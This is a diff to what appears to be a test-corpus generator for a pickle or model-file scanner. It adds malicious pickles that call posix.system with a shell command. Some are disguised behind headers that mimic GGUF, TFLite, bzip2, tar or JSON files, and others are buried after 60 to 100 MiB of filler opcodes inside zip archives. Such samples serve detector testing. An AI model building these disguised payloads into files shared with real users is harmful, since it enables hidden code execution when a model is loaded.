@@ -4,9 +4,10 @@ import pickle
 import pickletools
 import struct
 
+from attacks.archive import Entry, zip_of
 from attacks.assemble import Code, called, named, text, whole
 from attacks.record import SHELL, HostileFile
-from attacks.sound import checkpoint, fixture, weights
+from attacks.sound import checkpoint, entries, fixture, weights
 
 GROUP = "positions"
 RUN = called("posix:system", SHELL)
@@ -147,10 +148,42 @@ def plain_pickles():
     ]
 
 
+def lookalikes():
+    """Pickles whose first opcode makes them look like other files."""
+    plain = b"0cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR."
+    tar = b"\x80\2X" + struct.pack("<I", 400) + (b"x" * 250 + b"ustar").ljust(400, b"x")
+    starts = {
+        "gguf": b"GGUF" + bytes(5),  # BINFLOAT
+        "tflite": b"N0N0TFL3\0" + bytes(0x334C46),  # BINSTRING
+        "bzip2": b"BZh\0\0" + bytes(0x685A),  # BINBYTES
+        "zeros": b"B\0\x10\0\0" + bytes(4096),
+        "tar": tar,
+        "sentence": b"S'These are not the weights.'\n",
+        "json": b"]",
+    }
+    return [file(f"like_{word}", f"It looks like {word}.", start + plain) for word, start in starts.items()]
+
+
+def far_away():
+    """Behind much that does nothing."""
+    return [
+        file(
+            f"behind_{mega}_mib",
+            f"The call comes after {mega} MiB of opcodes.",
+            deflated(b"\x80\2" + b"N0" * (mega << 19) + RUN + b"0" + weights() + b"."),
+        )
+        for mega in (60, 100)
+    ]
+
+
+def deflated(pickled):
+    return zip_of([Entry("archive/data.pkl", pickled, deflated=True), *entries()[1:]])
+
+
 def pickle_4(system):
     return b"\x80\x04" + Code(system + text(SHELL) + b"\x85R") + b"."
 
 
 def files():
     """Every file of this class."""
-    return [*before_damage(), *after_the_end(), *in_legacy_files(), *plain_pickles()]
+    return [*before_damage(), *after_the_end(), *in_legacy_files(), *plain_pickles(), *lookalikes(), *far_away()]
